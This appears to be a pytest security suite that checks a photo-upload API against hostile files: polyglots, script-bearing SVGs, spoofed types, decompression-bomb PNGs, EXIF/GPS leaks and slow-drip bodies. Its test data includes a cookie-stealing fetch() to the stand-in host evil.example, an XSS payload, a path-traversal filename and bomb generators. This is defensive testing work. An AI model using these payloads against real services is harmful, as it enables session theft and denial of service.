"""Hostile photo uploads: polyglots, lies about the type, broken and bomb images, oversize and slow bodies.

Extends tests/rest/test_photos.py (which covers the plain cases: the 10 MiB cap, pixel bombs' status,
a truncated JPEG, an APNG, GPS in a JPEG's EXIF) with what an attacker would try next.
"""

from __future__ import annotations

import asyncio
import functools
import io
import statistics
import struct
import time
import zipfile
import zlib
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from PIL import ExifTags, Image

from tests.abuse.support import (
    PeakMemory,
    close_quietly,
    multipart,
    open_raw,
    open_socket,
    read_response,
    read_socket_response,
    request_head,
)
from tests.support.photos import bomb_png, fetch, list_photos, noisy_jpeg, picture, upload
from tests.support.rest import assert_error
from tests.support.server import RunningServer
from tests.support.users import auth_header, signup

PHOTO_CAP = 10 * 1024 * 1024 + 64 * 1024  # rest/routes.py PHOTO_BODY_LIMIT: the file plus multipart overhead
JSON_CAP = 64 * 1024
# A client trickling a body slower than this is abusive (Kestrel's MinRequestBodyDataRate default is 240 B/s);
# such a request must end, by an answer or a closed connection, within DRIP_BOUND_S of its first byte.
DRIP_RATE_BPS = 20
DRIP_BOUND_S = 30.0
HEALTH_PROMPT_S = 0.5


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def insert_after_ihdr(png: bytes, *chunks: bytes) -> bytes:
    """Put chunks right after IHDR (signature 8 bytes + IHDR 25 bytes)."""
    return png[:33] + b"".join(chunks) + png[33:]


def zeros_deflated(mib: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(mib)) + packer.flush()


@functools.cache
def idat_bomb() -> bytes:
    """A 64x64 PNG whose single IDAT inflates to the image plus 256 MiB of extra zeros (about 250 KB on disk)."""
    width = height = 64
    packer = zlib.compressobj(9)
    data = packer.compress((b"\x00" + bytes(width * 3)) * height)
    block = bytes(1 << 20)
    data += b"".join(packer.compress(block) for _ in range(256)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


@functools.cache
def ancillary_bomb(kind: bytes) -> bytes:
    """An 8x8 PNG with an iCCP or zTXt chunk that inflates to 256 MiB."""
    prefix = b"icc\x00\x00" if kind == b"iCCP" else b"Comment\x00\x00"
    return insert_after_ihdr(picture("PNG", size=(8, 8)), png_chunk(kind, prefix + zeros_deflated(256)))


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(32))
    return out.getvalue()


def animated_webp() -> bytes:
    frames = [Image.new("RGB", (32, 32), c) for c in ((255, 0, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def apng_with_hidden_default_image() -> bytes:
    """An APNG whose IDAT (the default image) is not part of the animation: two fdAT frames follow."""
    frames = [Image.new("RGB", (32, 32), c) for c in ((0, 255, 0), (255, 0, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], default_image=True, duration=100)
    return out.getvalue()


SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
              b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>")
HTML_SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"


def stored_marker_free(stored: bytes, *markers: bytes) -> list[bytes]:
    return [m for m in markers if m in stored]


def jpeg_markers(data: bytes) -> list[int]:
    """The marker bytes of a JPEG's segments up to the start of scan (APPn, COM, DQT, ...)."""
    assert data[:2] == b"\xff\xd8", data[:4]
    markers, pos = [], 2
    while pos + 4 <= len(data):
        assert data[pos] == 0xFF, f"not a marker at {pos}"
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        pos += 2 + struct.unpack(">H", data[pos + 2:pos + 4])[0]
    return markers


async def stored_files(http: httpx.AsyncClient, photo: dict[str, Any]) -> list[httpx.Response]:
    responses = [await fetch(http, photo["url"]), await fetch(http, photo["thumb_url"])]
    for resp in responses:
        assert resp.status_code == 200
        assert resp.headers["content-type"] == "image/jpeg"
        assert resp.headers["x-content-type-options"] == "nosniff"
        assert resp.content.startswith(b"\xff\xd8\xff")
    return responses


# -- polyglots and lies about the type -------------------------------------------------------------------------

@pytest.mark.parametrize(("data", "filename", "content_type", "markers"), [
    pytest.param(picture("PNG", size=(64, 48)) + HTML_SCRIPT, "page.html", "text/html",
                 (b"<script", b"alert", b"<html"), id="png+html-as-text/html"),
    pytest.param(noisy_jpeg((96, 64)) + zip_archive(), "photo.jar", "application/java-archive",
                 (b"PK\x03\x04", b"PK\x05\x06", b"MANIFEST", b"Evil"), id="gifar-like-jpeg+zip"),
    pytest.param(insert_after_ihdr(picture("PNG", size=(40, 40)),
                                   png_chunk(b"tEXt", b"Comment\x00" + HTML_SCRIPT)), "x.png", "image/png",
                 (b"<script", b"alert"), id="png-with-script-in-a-text-chunk"),
])
async def test_polyglot_is_stored_as_a_clean_jpeg_without_its_payload(http: httpx.AsyncClient, data: bytes,
                                                                      filename: str, content_type: str,
                                                                      markers: tuple[bytes, ...]) -> None:
    """An image that is also HTML, a zip or a script carrier is stored and served as a plain JPEG, payload gone."""
    token = (await signup(http))["access_token"]
    resp = await upload(http, token, data, filename, content_type)
    assert resp.status_code == 201, resp.text
    photo = resp.json()
    for stored in await stored_files(http, photo):
        assert stored_marker_free(stored.content, *markers) == []
        assert Image.open(io.BytesIO(stored.content)).format == "JPEG"
    assert filename not in photo["url"] and not photo["url"].endswith((".html", ".jar", ".png"))


@pytest.mark.parametrize(("data", "filename", "content_type"), [
    pytest.param(SVG_SCRIPT, "avatar.png", "image/png", id="svg-with-script-as-png"),
    pytest.param(SVG_SCRIPT, "avatar.svg", "image/svg+xml", id="svg-as-svg"),
    pytest.param(b"\xff\xd8\xff\xe0" + HTML_SCRIPT, "x.jpg", "image/jpeg", id="jpeg-magic-then-html"),
    pytest.param(b"\x89PNG\r\n\x1a\n" + HTML_SCRIPT, "x.png", "image/png", id="png-magic-then-html"),
    pytest.param(b"RIFF\x00\x00\x00\x00WEBPVP8 " + HTML_SCRIPT, "x.webp", "image/webp", id="webp-magic-then-html"),
    pytest.param(HTML_SCRIPT + picture("PNG"), "x.png", "image/png", id="html-then-png"),
    pytest.param(zip_archive() + picture("JPEG"), "x.jpg", "image/jpeg", id="zip-then-jpeg"),
])
async def test_script_carriers_that_are_no_image_are_415(http: httpx.AsyncClient, data: bytes, filename: str,
                                                         content_type: str) -> None:
    """SVG with script, HTML behind image magic bytes, or a payload before the image: 415, nothing stored."""
    token = (await signup(http))["access_token"]
    err = assert_error(await upload(http, token, data, filename, content_type), 415, "validation_error")
    assert set(err["details"]["fields"]) == {"file"}
    assert await list_photos(http, token) == []


@pytest.mark.parametrize(("data", "filename", "content_type", "status"), [
    pytest.param(picture("JPEG"), "photo.svg", "image/svg+xml", 201, id="jpeg-called-svg"),
    pytest.param(picture("WEBP"), "photo.png", "image/png", 201, id="webp-called-png"),
    pytest.param(picture("PNG"), "../../../etc/passwd", "application/octet-stream", 201, id="png-traversal-name"),
    pytest.param(picture("GIF"), "photo.png", "image/png", 415, id="gif-called-png"),
    pytest.param(HTML_SCRIPT, "photo.jpg", "image/jpeg", 415, id="html-called-jpeg"),
])
async def test_only_the_content_decides(http: httpx.AsyncClient, data: bytes, filename: str, content_type: str,
                                        status: int) -> None:
    """Name and declared type change nothing: the bytes alone decide, and the name never reaches storage."""
    token = (await signup(http))["access_token"]
    body, header = multipart(data, filename=filename, content_type=content_type)
    resp = await http.post("/v1/profile/photos", content=body,
                           headers={**auth_header(token), "Content-Type": header})
    assert resp.status_code == status, resp.text
    if status == 201:
        photo = resp.json()
        key = urlsplit(photo["url"]).path.rsplit("/", 1)[-1]
        assert key.endswith(".jpg") and ".." not in key and "passwd" not in key and "svg" not in key
        await stored_files(http, photo)
    else:
        assert await list_photos(http, token) == []


# -- broken, bomb and animated images --------------------------------------------------------------------------

def _truncated(fmt: str, keep: float) -> bytes:
    data = noisy_jpeg((200, 200)) if fmt == "JPEG" else _encoded_noise(fmt)
    return data[: int(len(data) * keep)]


def _encoded_noise(fmt: str) -> bytes:
    image = Image.effect_noise((200, 200), 90).convert("RGB")
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


@pytest.mark.parametrize("data", [
    pytest.param(_truncated("PNG", 0.5), id="png-half"),
    pytest.param(_truncated("PNG", 0.95), id="png-last-idat-cut"),
    pytest.param(_truncated("WEBP", 0.5), id="webp-half"),
    pytest.param(_truncated("WEBP", 0.97), id="webp-nearly-whole"),
    pytest.param(_truncated("JPEG", 0.02), id="jpeg-headers-only"),
    pytest.param(b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
                 + png_chunk(b"IEND", b""), id="png-without-idat"),
    pytest.param(picture("PNG")[:33] + png_chunk(b"IDAT", b"not zlib at all") + png_chunk(b"IEND", b""),
                 id="png-garbage-idat"),
])
async def test_truncated_or_broken_images_are_415(http: httpx.AsyncClient, data: bytes) -> None:
    """A PNG or WebP cut short, headers without pixels, or garbage pixel data: 415 and nothing stored."""
    token = (await signup(http))["access_token"]
    assert_error(await upload(http, token, data, "x.png", "image/png"), 415, "validation_error")
    assert await list_photos(http, token) == []


@pytest.mark.parametrize("data", [
    pytest.param(animated_webp(), id="animated-webp"),
    pytest.param(apng_with_hidden_default_image(), id="apng-hidden-default-image"),
])
async def test_animations_are_415(http: httpx.AsyncClient, data: bytes) -> None:
    """An animated WebP, or an APNG that hides a different still as its default image, is 415."""
    token = (await signup(http))["access_token"]
    err = assert_error(await upload(http, token, data, "x.webp", "image/webp"), 415, "validation_error")
    assert "file" in err["details"]["fields"]
    assert await list_photos(http, token) == []


async def test_twenty_thousand_square_png_is_refused_fast_without_decoding(http: httpx.AsyncClient) -> None:
    """A 20,000 x 20,000 PNG (400 megapixels, 50 KB) is 413 within 2 s and the server's memory barely moves."""
    data = bomb_png(20_000, 20_000)
    token = (await signup(http))["access_token"]
    memory = PeakMemory()
    before = memory.reset()
    started = time.monotonic()
    assert_error(await upload(http, token, data, "big.png", "image/png"), 413, "bad_request")
    took = time.monotonic() - started
    grew_mib = (memory.peak_kib() - before) / 1024
    assert took < 2.0, took
    assert grew_mib < 50, f"peak memory grew {grew_mib:.0f} MiB for a refused 400-megapixel header"


@pytest.mark.parametrize("kind", ["IDAT", "iCCP", "zTXt"])
async def test_zip_bomb_png_costs_little_time_and_memory(http: httpx.AsyncClient, kind: str) -> None:
    """A small PNG whose compressed chunk inflates to 256 MiB is answered within 5 s, peak memory under 100 MiB."""
    data = idat_bomb() if kind == "IDAT" else ancillary_bomb(kind.encode())
    assert len(data) < 400_000
    token = (await signup(http))["access_token"]
    memory = PeakMemory()
    before = memory.reset()
    started = time.monotonic()
    resp = await upload(http, token, data, "bomb.png", "image/png")
    took = time.monotonic() - started
    grew_mib = (memory.peak_kib() - before) / 1024
    assert resp.status_code in (201, 415), resp.text
    assert took < 5.0, took
    assert grew_mib < 100, f"peak memory grew {grew_mib:.0f} MiB"
    if resp.status_code == 201:  # the pixels were fine: the 64x64 picture, nothing of the padding
        assert (resp.json()["width"], resp.json()["height"]) == (64, 64)


# -- EXIF / GPS ---------------------------------------------------------------------------------------------

def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "LeakyMakerCorp"
    exif[ExifTags.Base.ImageDescription] = "home of SecretUser"
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.5),
                                  ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (13.0, 24.0, 3.25),
                                  ExifTags.GPS.GPSProcessingMethod: b"ASCII\x00\x00\x00GPSLEAK"}
    return exif


XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,31.2N" '
       b'exif:GPSLongitude="13,24.05E"/></rdf:RDF></x:xmpmeta>')
LEAKS = (b"Exif", b"eXIf", b"GPS", b"LeakyMaker", b"SecretUser", b"GPSLEAK", b"xmpmeta", b"ns.adobe.com",
         b"52,31", b"XML:com.adobe.xmp")


def with_metadata(fmt: str) -> bytes:
    image = Image.effect_noise((160, 120), 60).convert("RGB")
    out = io.BytesIO()
    if fmt == "MPO":  # the second picture carries the GPS too
        second = Image.new("RGB", (160, 120), (1, 2, 3))
        image.save(out, "MPO", save_all=True, append_images=[second], exif=gps_exif())
    elif fmt == "PNG":
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        info.add_text("Comment", "SecretUser lives here")
        image.save(out, "PNG", exif=gps_exif(), pnginfo=info)
    else:
        image.save(out, fmt, exif=gps_exif(), xmp=XMP)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "MPO"])
async def test_gps_exif_and_xmp_are_gone_from_the_stored_bytes(http: httpx.AsyncClient, fmt: str) -> None:
    """GPS in EXIF or XMP (JPEG, PNG, WebP, multi-picture JPEG) is absent from both stored files, byte for byte."""
    data = with_metadata(fmt)
    source = Image.open(io.BytesIO(data))
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the upload must really carry GPS"
    assert b"GPSLEAK" in data
    token = (await signup(http))["access_token"]
    resp = await upload(http, token, data, f"x.{fmt.lower()}", "application/octet-stream")
    assert resp.status_code == 201, resp.text
    for stored in await stored_files(http, resp.json()):
        image = Image.open(io.BytesIO(stored.content))
        assert dict(image.getexif()) == {}
        assert not {"exif", "xmp", "comment", "icc_profile", "XML:com.adobe.xmp"} & set(image.info)
        assert stored_marker_free(stored.content, *LEAKS) == []
        # only JFIF's APP0 and the picture's own segments: no APP1-APP15 (EXIF, XMP, MPF, ICC...) and no COM
        extra = [hex(m) for m in jpeg_markers(stored.content) if 0xE1 <= m <= 0xEF or m == 0xFE]
        assert extra == []


# -- oversize and slow bodies ------------------------------------------------------------------------------

@pytest.mark.parametrize(("path", "declared"), [
    pytest.param("/v1/profile/photos", 50 * 1024 * 1024, id="upload-50-MiB"),
    pytest.param("/v1/profile/photos", PHOTO_CAP + 1, id="upload-cap-plus-one"),
    pytest.param("/v1/auth/login", JSON_CAP + 1, id="login-64-KiB-plus-one"),
    pytest.param("/v1/auth/signup", 2**62, id="signup-huge"),
])
async def test_declared_oversize_body_is_413_before_any_of_it_is_sent(http: httpx.AsyncClient,
                                                                     server: RunningServer, path: str,
                                                                     declared: int) -> None:
    """A Content-Length over the cap is answered 413 from the headers alone, without waiting for the body."""
    token = (await signup(http))["access_token"]
    content_type = "multipart/form-data; boundary=x" if "photos" in path else "application/json"
    reader, writer = await open_raw(server.base_url)
    try:
        writer.write(request_head(server.base_url, "POST", path, {
            "Authorization": f"Bearer {token}", "Content-Type": content_type, "Content-Length": str(declared)}))
        await writer.drain()
        async with asyncio.timeout(3):  # no body byte is ever sent: the answer must come from the headers
            resp = await read_response(reader)
    finally:
        await close_quietly(writer)
    assert resp.status == 413, resp.body[:200]
    error = httpx.Response(413, content=resp.body).json()["error"]
    assert error["code"] == "bad_request" and error["details"]["limit_bytes"] in (PHOTO_CAP, JSON_CAP)


@pytest.mark.parametrize(("path", "cap"), [
    pytest.param("/v1/profile/photos", PHOTO_CAP, id="upload"),
    pytest.param("/v1/auth/login", JSON_CAP, id="login"),
])
async def test_chunked_body_past_the_cap_is_413(http: httpx.AsyncClient, server: RunningServer, path: str,
                                                cap: int) -> None:
    """A chunked body with no length is cut off with 413 once it passes the cap; the server stays healthy."""
    token = (await signup(http))["access_token"]
    if "photos" in path:  # a well-formed multipart stream whose file part simply never ends
        opening, content_type = multipart(b"")
        opening = opening[: opening.index(b"\r\n\r\n") + 4]
    else:
        opening, content_type = b'{"email": "', "application/json"
    sock = await open_socket(server.base_url)
    loop = asyncio.get_running_loop()
    sent = 0
    chunk = b"x" * (256 * 1024)
    target = cap * 3 + 4 * 1024 * 1024

    async def send_body() -> None:
        nonlocal sent
        await loop.sock_sendall(sock, request_head(server.base_url, "POST", path, {
            "Authorization": f"Bearer {token}", "Content-Type": content_type, "Transfer-Encoding": "chunked"}))
        await loop.sock_sendall(sock, f"{len(opening):x}\r\n".encode() + opening + b"\r\n")
        prefix = f"{len(chunk):x}\r\n".encode()
        while sent < target:
            await loop.sock_sendall(sock, prefix + chunk + b"\r\n")
            sent += len(chunk)
        await loop.sock_sendall(sock, b"0\r\n\r\n")

    sender = asyncio.create_task(send_body())
    try:  # the server may reset the connection while the body is still coming: its 413 must still arrive
        async with asyncio.timeout(10):
            resp = await read_socket_response(sock)
    finally:
        sender.cancel()
        await asyncio.gather(sender, return_exceptions=True)
        sock.close()
    assert resp.status == 413, (resp.status, resp.body[:200])
    error = httpx.Response(413, content=resp.body).json()["error"]
    assert error["code"] == "bad_request" and error["details"]["limit_bytes"] == cap
    assert (await http.get("/v1/health")).status_code == 200


async def health_latencies(http: httpx.AsyncClient, stop: asyncio.Event, every_s: float = 0.5) -> list[float]:
    """Time /v1/health every ``every_s`` until ``stop`` is set."""
    times: list[float] = []
    while not stop.is_set():
        started = time.monotonic()
        resp = await http.get("/v1/health")
        times.append(time.monotonic() - started)
        assert resp.status_code == 200
        try:
            await asyncio.wait_for(stop.wait(), every_s)
        except TimeoutError:
            pass
    return times


async def test_slow_drip_upload_is_dropped_and_never_blocks_others(http: httpx.AsyncClient,
                                                                  server: RunningServer) -> None:
    """An upload trickling at 20 B/s ends within 30 s of its first byte; health answers promptly all along."""
    token = (await signup(http))["access_token"]
    body, content_type = multipart(noisy_jpeg((128, 128)))
    assert len(body) > DRIP_RATE_BPS * DRIP_BOUND_S * 2  # the drip cannot finish inside the bound by itself
    reader, writer = await open_raw(server.base_url)
    writer.write(request_head(server.base_url, "POST", "/v1/profile/photos", {
        "Authorization": f"Bearer {token}", "Content-Type": content_type, "Content-Length": str(len(body))}))
    await writer.drain()

    async def drip() -> None:
        step = DRIP_RATE_BPS // 4
        for start in range(0, len(body), step):
            try:
                writer.write(body[start:start + step])
                await writer.drain()
            except (ConnectionError, OSError):
                return  # the server hung up: what we wanted
            await asyncio.sleep(0.25)

    async def server_gives_up() -> str:
        try:
            resp = await read_response(reader)
            return f"answered {resp.status}"
        except (asyncio.IncompleteReadError, ConnectionError):
            return "closed the connection"

    stop = asyncio.Event()
    dripper = asyncio.create_task(drip())
    health = asyncio.create_task(health_latencies(http, stop))
    started = time.monotonic()
    outcome = "still waiting"
    try:
        async with asyncio.timeout(DRIP_BOUND_S + 5):
            outcome = await server_gives_up()
    except TimeoutError:
        pass
    finally:
        took = time.monotonic() - started
        stop.set()
        dripper.cancel()
        latencies = await health
        await asyncio.gather(dripper, return_exceptions=True)
        await close_quietly(writer)
    assert latencies and max(latencies) < HEALTH_PROMPT_S, (
        f"health took up to {max(latencies):.3f}s while an upload dripped (median "
        f"{statistics.median(latencies):.3f}s)")
    assert outcome != "still waiting" and took <= DRIP_BOUND_S, (
        f"after {took:.0f}s at {DRIP_RATE_BPS} B/s the server is {outcome}: a slow client can hold an upload "
        f"(and its connection) open indefinitely")


async def test_slow_but_steady_upload_still_succeeds(http: httpx.AsyncClient, server: RunningServer) -> None:
    """A phone on a poor link (a few KB every 50 ms) still gets its photo stored."""
    token = (await signup(http))["access_token"]
    body, content_type = multipart(noisy_jpeg((200, 200)))
    reader, writer = await open_raw(server.base_url)
    try:
        writer.write(request_head(server.base_url, "POST", "/v1/profile/photos", {
            "Authorization": f"Bearer {token}", "Content-Type": content_type, "Content-Length": str(len(body))}))
        for start in range(0, len(body), 4096):
            writer.write(body[start:start + 4096])
            await writer.drain()
            await asyncio.sleep(0.05)
        async with asyncio.timeout(10):
            resp = await read_response(reader)
    finally:
        await close_quietly(writer)
    assert resp.status == 201, resp.body[:200]
    assert len(await list_photos(http, token)) == 1
